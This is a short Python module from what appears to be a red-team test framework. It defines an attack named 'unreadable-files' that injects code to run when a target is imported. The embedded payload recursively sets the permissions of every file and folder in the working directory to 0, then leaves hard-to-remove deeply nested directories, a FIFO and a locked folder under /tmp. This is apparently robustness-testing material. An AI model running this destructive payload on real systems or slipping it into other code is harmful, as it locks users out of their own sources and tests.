"""Tests and sources made unreadable, and things that are hard to remove left behind."""

from __future__ import annotations

from smith.redteam.base import Attack, Hack
from smith.redteam.target import Target

CODE = """
import os

for folder, folders, files in os.walk(".", topdown=False):
    for name in [*folders, *files]:
        try:
            os.chmod(os.path.join(folder, name), 0)
        except OSError:
            continue
for number in range(40):
    try:
        os.makedirs("/tmp/locked/" + "d/" * number, exist_ok=True)
    except OSError:
        break
try:
    os.mkfifo("/tmp/fifo")
    os.chmod("/tmp/locked", 0)
except OSError:
    pass
"""


def attack(target: Target) -> Attack:
    return target.at_import(CODE)


HACK = Hack(45, "unreadable-files", attack)
